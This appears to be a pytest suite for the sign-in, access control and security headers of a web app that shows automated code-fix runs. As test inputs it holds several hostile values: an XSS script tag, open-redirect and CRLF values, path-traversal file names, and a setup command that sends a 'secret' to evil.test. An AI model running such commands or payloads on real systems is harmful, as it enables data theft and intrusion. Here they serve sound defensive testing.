"""The pages of runs: who may see them, what each person sees, and what is impossible."""

from __future__ import annotations

import re
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html import unescape
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import pytest_asyncio
from pydantic import SecretStr

from app import log_events
from app.playground.run import let_sign_in, sign_in_settings
from app.web.sessions import Cookies, SigningIn, WebSession
from tests.support.harness import FINISH, FIX, PROJECT, Harness, Subject, open_harness, script

pytestmark = pytest.mark.asyncio(loop_scope="module")

SESSION_SECRET = "a-session-secret-that-is-long-enough-for-all"
CLIENT_SECRET = "playground-client-secret"
PLAN = {"plan": {"items": [{"text": "Turn <b>minus</b> into plus", "done": True}]}}


@pytest_asyncio.fixture(scope="module", loop_scope="module", name="harness")
async def _house() -> AsyncIterator[Harness]:
    settings = sign_in_settings() | {"HONK_SESSION_SECRET": SESSION_SECRET}
    async with open_harness(**settings) as harness:
        let_sign_in(harness.github, harness.url)
        yield harness


@pytest_asyncio.fixture(scope="module", loop_scope="module", name="public")
async def _public(harness: Harness) -> Subject:
    """A run that is over, in a repository that everybody can read."""
    plays = script([PLAN, FIX], [FINISH])
    subject = await harness.subject(
        name="open", title="<script>alert(1)</script> add() subtracts", plays=plays
    )
    await subject.label()
    await subject.settled()
    return subject


@pytest_asyncio.fixture(scope="module", loop_scope="module", name="private")
async def _private(harness: Harness) -> Subject:
    """A run that is over, in a repository that Olivia and Walter can read."""
    plays = script([FIX], [FINISH])
    subject = await harness.subject(
        name="closed",
        title="the secret plan",
        plays=plays,
        private=True,
        permissions={"walter": "read"},
    )
    await subject.label()
    await subject.settled()
    return subject


def _page(subject: Subject) -> str:
    found = re.search(r"honk:run=(\w+)", subject.status)
    assert found
    return f"/runs/{found[1]}"


@asynccontextmanager
async def _visitor(harness: Harness) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=harness.url) as client:
        yield client


async def _begin(client: httpx.AsyncClient, harness: Harness, login: str, then: str = "") -> str:
    """Go to GitHub and authorize there; return the URL that GitHub redirects to."""
    answer = await client.get("/login/start", params={"then": then})
    assert answer.status_code == 303
    return harness.github.sign_in(login, answer.headers["location"])


@asynccontextmanager
async def _signed_in(harness: Harness, login: str) -> AsyncIterator[httpx.AsyncClient]:
    async with _visitor(harness) as client:
        answer = await client.get(await _begin(client, harness, login))
        assert (answer.status_code, answer.headers["location"]) == (303, "/runs")
        yield client


# -- signing in


@pytest.mark.slow
async def test_a_visitor_signs_in_and_returns_to_the_page(
    harness: Harness, public: Subject
) -> None:
    async with _visitor(harness) as client:
        led = await client.get(_page(public))
        assert led.status_code == 303
        door = await client.get(led.headers["location"])
        assert "Sign in with GitHub" in door.text
        (start,) = re.findall(r'href="(/login/start[^"]+)"', door.text)
        sent = await client.get(start)
        back = await client.get(harness.github.sign_in("rita", sent.headers["location"]))
        assert back.headers["location"] == _page(public)
        assert (await client.get("/login")).headers["location"] == "/runs"


async def test_no_secret_reaches_github_and_redirects_stay_local(harness: Harness) -> None:
    async with _visitor(harness) as client:
        for then in ("https://evil.example/", "//evil.example", "/runs/../login", "/runs/x\r\ny"):
            asked = await client.get("/login/start", params={"then": then})
            query = parse_qs(urlsplit(asked.headers["location"]).query)
            assert set(query) == {"client_id", "state", "code_challenge", "code_challenge_method"}
            assert query["code_challenge_method"] == ["S256"]
            back = harness.github.sign_in("rita", asked.headers["location"])
            assert (await client.get(back)).headers["location"] == "/runs"


async def test_cookies_are_as_they_should_be(harness: Harness) -> None:
    async with _visitor(harness) as client:
        begun = (await client.get("/login/start")).headers["set-cookie"]
        answer = await client.get(await _begin(client, harness, "rita"))
        given = [v for v in answer.headers.get_list("set-cookie") if "honk-session=" in v]
        for cookie in (begun, *given):
            assert "HttpOnly" in cookie
            assert "SameSite=lax" in cookie
            assert "Path=/" in cookie
            assert re.search(r"Max-Age=\d{3,5};", cookie)
        tokens = [text for text in harness.github.world.tokens if text.startswith("ghu_")]
        assert tokens
        assert not [text for text in tokens if text in " ".join(given)]


async def test_a_code_works_only_for_its_own_browser(harness: Harness) -> None:
    async with _visitor(harness) as attacker, _visitor(harness) as victim:
        back = await _begin(attacker, harness, "stan")
        assert (await victim.get(back)).status_code == 400
        await _begin(victim, harness, "olivia")
        refused = await victim.get(back)
        assert refused.status_code == 400
        assert "has expired" in refused.text
        assert (await victim.get("/api/runs")).status_code == 401


async def test_a_state_that_is_missing_or_changed_is_refused(harness: Harness) -> None:
    async with _visitor(harness) as client:
        code = parse_qs(urlsplit(await _begin(client, harness, "olivia")).query)["code"][0]
        for state in ({}, {"state": ""}, {"state": "x" * 43}, {"state": "ü"}):
            answer = await client.get("/login/callback", params={"code": code} | state)
            assert answer.status_code == 400, state
        assert (await client.get("/api/runs")).status_code == 401


async def test_a_code_is_good_once(harness: Harness) -> None:
    async with _visitor(harness) as client:
        back = await _begin(client, harness, "olivia")
        kept = dict(client.cookies)
        assert (await client.get(back)).status_code == 303
    async with _visitor(harness) as again:
        again.cookies.update(kept)
        assert (await again.get(back)).status_code == 400
        assert (await again.get("/api/runs")).status_code == 401


async def test_declining_is_reported(harness: Harness) -> None:
    async with _visitor(harness) as client:
        state = parse_qs(urlsplit(await _begin(client, harness, "olivia")).query)["state"][0]
        answer = await client.get(
            "/login/callback", params={"error": "access_denied", "state": state}
        )
        assert answer.status_code == 400
        assert "was denied" in answer.text


# -- what each person sees


async def test_a_page_shows_what_a_person_on_a_phone_wants(
    harness: Harness, public: Subject
) -> None:
    async with _signed_in(harness, "olivia") as client:
        text = (await client.get(_page(public))).text
    assert "Done" in text
    assert "Requested by olivia" in text
    assert "<code>add(2, 3)</code> is -1." in text
    assert "Turn &lt;b&gt;minus&lt;/b&gt; into plus" in text
    assert "add() now adds." in text
    assert "<strong>Proven.</strong> test_calc.py::test_add fails without this change" in text
    assert "Fixed, its test unchanged: 1" in text
    assert re.search(r"</span>(worked|tested)</dt><dd>", text)
    assert re.search(r"cost</dt><dd>\$\d+\.\d\d", text)
    github = f"{harness.github.url}/{public.repository}"
    assert f'href="{github}/issues/{public.number}"' in text
    assert f'href="{github}/pull/{public.pull.number}"' in text
    assert f'href="{github}/runs/{public.check.id}"' in text


async def test_a_page_shows_what_set_up_tried_to_reach(harness: Harness) -> None:
    fetch = "import urllib.request as u; u.urlopen('https://evil.test/?secret')"
    rules = f"""
setup: ['python3 -c "{fetch.replace("'", "''")}" || true']
network: {{allow: [files.example]}}
verify: ["python3 -c 'import calc; assert calc.add(2, 3) == 5'"]
"""
    files = {**PROJECT, ".github/honk.yml": rules.encode()}
    subject = await harness.subject(files=files, plays=script([FIX], [FINISH]))
    await subject.label()
    await subject.settled()
    async with _signed_in(harness, "olivia") as client:
        text = (await client.get(_page(subject))).text
    assert "<code>evil.test</code>: the host is not on the allow-list" in text


async def test_what_people_wrote_is_text_and_never_markup(
    harness: Harness, public: Subject
) -> None:
    async with _signed_in(harness, "olivia") as client:
        for path in (_page(public), "/runs"):
            answer = await client.get(path)
            assert "<script>alert" not in answer.text
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in answer.text
            policy = answer.headers["content-security-policy"]
            assert "script-src 'self';" in policy
            assert "unsafe" not in policy


async def test_a_private_run_is_seen_by_those_who_can_read_the_repository(
    harness: Harness, public: Subject, private: Subject
) -> None:
    for login in ("olivia", "walter"):
        async with _signed_in(harness, login) as client:
            assert "the secret plan" in (await client.get(_page(private))).text
            listed = (await client.get("/runs")).text
            assert "the secret plan" in listed
            assert "subtracts" in listed


async def test_to_others_a_private_run_is_not_there(
    harness: Harness, public: Subject, private: Subject
) -> None:
    async with _signed_in(harness, "rita") as client:
        hidden, unknown = await client.get(_page(private)), await client.get("/runs/aaaaaaaaaa")
        assert hidden.status_code == unknown.status_code == 404
        assert hidden.text == unknown.text
        assert (await client.get(_page(public))).status_code == 200
        listed = (await client.get("/runs")).text
        told = (await client.get("/api/runs")).json()
        narrowed = (await client.get("/runs", params={"repo": private.repository})).text
    assert "subtracts" in listed
    assert "the secret plan" not in listed + narrowed + str(told)
    assert private.repository not in {run["repository"] for run in told["runs"]}


async def test_the_list_of_a_repository_says_how_to_set_it_up(
    harness: Harness, public: Subject
) -> None:
    async with _signed_in(harness, "olivia") as client:
        every = (await client.get("/runs")).text
        one = (await client.get("/runs", params={"repo": public.repository})).text
    (link,) = re.findall(r'href="([^"]+/issues/new[^"]+)"', one)
    address = urlsplit(unescape(link))
    assert address.path == f"/{public.repository}/issues/new"
    asked = parse_qs(address.query)
    assert asked["title"] == ["Set up this repository"]
    assert "Comment `/honk setup` on this issue." in asked["body"][0]
    assert "<code>/honk setup</code>" in one
    assert "issues/new" not in every


async def test_programs_get_the_same_list(harness: Harness, private: Subject) -> None:
    async with _signed_in(harness, "walter") as client:
        told = (await client.get("/api/runs", params={"repo": private.repository})).json()
    (run,) = told["runs"]
    assert run["title"] == "the secret plan"
    assert run["outcome"] == "done"
    assert run["url"] == _page(private)
    assert run["pull_url"].endswith(f"/pull/{private.pull.number}")


@pytest.mark.slow
async def test_a_page_is_of_the_repository_and_not_of_its_name(harness: Harness) -> None:
    """Another repository under the same name opens nothing."""
    plays = script([FIX], [FINISH])
    subject = await harness.subject(
        name="moves", title="a former secret", plays=plays, private=True
    )
    await subject.label()
    await subject.settled()
    page = _page(subject)
    await harness.github.rename(subject.repository, "moved", "olivia")
    await harness.github.add_repository(subject.repository)
    async with _signed_in(harness, "rita") as client:
        assert (await client.get(page)).status_code == 404


async def test_while_github_is_away_nothing_is_guessed(harness: Harness, public: Subject) -> None:
    async with _signed_in(harness, "trudy") as client:
        harness.github.faults.answer("GET", f"/repos/{public.repository}", 502, times=1)
        answer = await client.get(_page(public))
        assert answer.status_code == 503
        assert "Try again" in answer.text
        assert (await client.get(_page(public))).status_code == 200


# -- forged and expired


async def test_forged_and_worn_out_cookies_open_nothing(harness: Harness, public: Subject) -> None:
    async with _signed_in(harness, "olivia") as client:
        good = client.cookies["honk-session"]
    real = [text for text in harness.github.world.tokens if text.startswith("ghu_")][-1]
    ours = Cookies(SecretStr(SESSION_SECRET), is_secure=False)
    others = Cookies(SecretStr("another-session-secret-of-some-length"), is_secure=False)
    session = WebSession("olivia", 1, real, "form", time.time() + 60)
    worn_out = WebSession("olivia", 1, real, "form", time.time() - 1)
    way = SigningIn.begin("/runs", time.time())
    forged = {
        "changed": good[:-3] + ("AAA" if good[-3:] != "AAA" else "BBB"),
        "cut": good[:40],
        "empty": "",
        "plain": '{"login":"olivia"}',
        "another secret": others.seal(session),
        "worn out": ours.seal(worn_out),
        "of another kind": ours.seal(way),
    }
    assert await _status_with(harness, public, ours.seal(session)) == 200
    for name, cookie in forged.items():
        assert await _status_with(harness, public, cookie) == 303, name


async def _status_with(harness: Harness, subject: Subject, cookie: str) -> int:
    async with _visitor(harness) as client:
        headers = {"cookie": f"honk-session={cookie}"}
        return (await client.get(_page(subject), headers=headers)).status_code


async def test_a_token_that_github_took_back_ends_the_session(
    harness: Harness, public: Subject
) -> None:
    async with _signed_in(harness, "stan") as client:
        newest = [text for text in harness.github.world.tokens if text.startswith("ghu_")][-1]
        del harness.github.world.tokens[newest]
        answer = await client.get(_page(public))
        assert answer.status_code == 303
        assert answer.headers["location"].startswith("/login")
        assert "honk-session" not in client.cookies


# -- signing out


async def test_only_our_own_form_signs_people_out(harness: Harness, public: Subject) -> None:
    async with _signed_in(harness, "olivia") as client:
        kept = client.cookies["honk-session"]
        newest = [text for text in harness.github.world.tokens if text.startswith("ghu_")][-1]
        for form in ({}, {"form": "x"}, {"form": "ü"}, {"form": "x" * 10_000}):
            assert (await client.post("/logout", data=form)).status_code == 403
        assert (await client.get("/logout")).status_code == 405
        page = await client.get(_page(public))
        assert page.status_code == 200
        (word,) = set(re.findall(r'name="form" value="([^"]+)"', page.text))
        left = await client.post("/logout", data={"form": word})
        assert (left.status_code, left.headers["location"]) == (303, "/login")
        assert "honk-session" not in client.cookies
        assert newest not in harness.github.world.tokens
        # A copy of the cookie is worthless.
        client.cookies.set("honk-session", kept)
        assert (await client.get(_page(public))).status_code == 303


# -- over HTTPS, and the way here from GitHub


@pytest.mark.slow
async def test_over_https_cookies_are_bound_to_the_host_and_comments_lead_here() -> None:
    settings = sign_in_settings() | {"HONK_PUBLIC_URL": "https://honk.example/"}
    async with open_harness(**settings) as harness, _visitor(harness) as client:
        begun = await client.get("/login/start")
        query = parse_qs(urlsplit(begun.headers["location"]).query)
        assert query["redirect_uri"] == ["https://honk.example/login/callback"]
        cookie = begun.headers["set-cookie"]
        assert cookie.startswith("__Host-honk-signing-in=")
        assert "Secure" in cookie
        assert "max-age=" in begun.headers["strict-transport-security"]
        subject = await harness.subject(plays=script([FIX], [FINISH]))
        await subject.label()
        await subject.settled()
        assert f"(https://honk.example{_page(subject)})" in subject.status


# -- headers of every response


async def test_every_page_carries_its_headers(harness: Harness, public: Subject) -> None:
    async with _signed_in(harness, "olivia") as client:
        for path in (
            "/runs",
            _page(public),
            "/runs/aaaa",
            "/login",
            "/login/callback",
            "/api/runs",
        ):
            headers = (await client.get(path)).headers
            assert "default-src 'none'" in headers["content-security-policy"], path
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["referrer-policy"] == "no-referrer"
            assert headers["cache-control"] == "no-store"


async def test_what_comes_with_the_pages_is_ours_and_nothing_else(harness: Harness) -> None:
    async with _visitor(harness) as client:
        for name in ("honk.css", "live.js", "mark.svg"):
            answer = await client.get(f"/static/{name}")
            assert answer.status_code == 200
            assert "default-src 'none'" in answer.headers["content-security-policy"]
        for name in ("../sessions.py", "%2e%2e/sessions.py", "", ".", "x"):
            assert (await client.get(f"/static/{name}")).status_code == 404


async def test_the_log_holds_no_secret(harness: Harness, public: Subject) -> None:
    async with _signed_in(harness, "olivia") as client:
        await client.get(_page(public))
    log = harness.log()
    assert log_events.SIGNED_IN in log
    for secret in (CLIENT_SECRET, SESSION_SECRET, "ghu_"):
        assert secret not in log


async def test_without_a_session_secret_the_pages_are_closed_and_say_so() -> None:
    settings = {"GITHUB_CLIENT_ID": "x", "GITHUB_CLIENT_SECRET": CLIENT_SECRET}
    async with open_harness(**settings) as harness, _visitor(harness) as client:
        for path in ("/runs", "/runs/aaaaaaaaaa", "/login", "/login/start", "/login/callback"):
            answer = await client.get(path)
            assert answer.status_code == 503
            assert "HONK_SESSION_SECRET" in answer.text
            assert "set-cookie" not in answer.headers
        assert (await client.get("/api/runs")).status_code == 503
        assert log_events.PAGES_DISABLED in harness.log()
